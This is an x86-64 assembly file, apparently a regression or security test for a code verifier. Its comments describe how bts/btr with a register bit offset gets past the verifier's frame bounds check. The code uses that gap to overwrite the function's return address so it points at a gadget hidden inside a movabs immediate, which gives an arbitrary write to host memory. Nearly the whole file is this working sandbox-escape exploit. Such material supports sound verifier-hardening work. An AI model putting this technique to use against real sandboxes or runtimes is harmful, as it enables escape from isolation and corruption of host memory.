# btsrsp.s: bts/btr with a register bit offset on a frame operand (%rsp).
# The verifier bounds the operand (%rsp) to the 8-byte frame, but the CPU
# addresses (%rsp) + (bitoffset >> 3) with a signed 64-bit bit offset, so
# bit offsets 64..127 reach the return address above the frame. inner()
# rewrites its own return address to a gadget hidden in holder's movabs
# immediate (mov %rsi,(%rdi); ret), which then returns to attack's caller:
# attack(addr, val) writes val at host address addr.
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        call inner
        ret

        .p2align 4, 0xcc
        .globl inner
        .type inner,@function
inner:
        subq $8, %rsp
        leaq holder+2(%rip), %rdx   # the hidden gadget
        movl $64, %eax              # bit 0 of 8(%rsp): the return address
        movl $64, %ecx
1:
        btrq %rax, (%rsp)           # clear bit
        shrq $1, %rdx
        jnc 2f
        btsq %rax, (%rsp)           # set bit
2:
        incq %rax
        decl %ecx
        jnz 1b
        addq $8, %rsp
        ret                         # to the gadget

        .p2align 4, 0xcc
        .globl holder
        .type holder,@function
holder:
        movabsq $0xccccccccc3378948, %rax   # 48 89 37 c3: mov %rsi,(%rdi); ret
        ret

        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
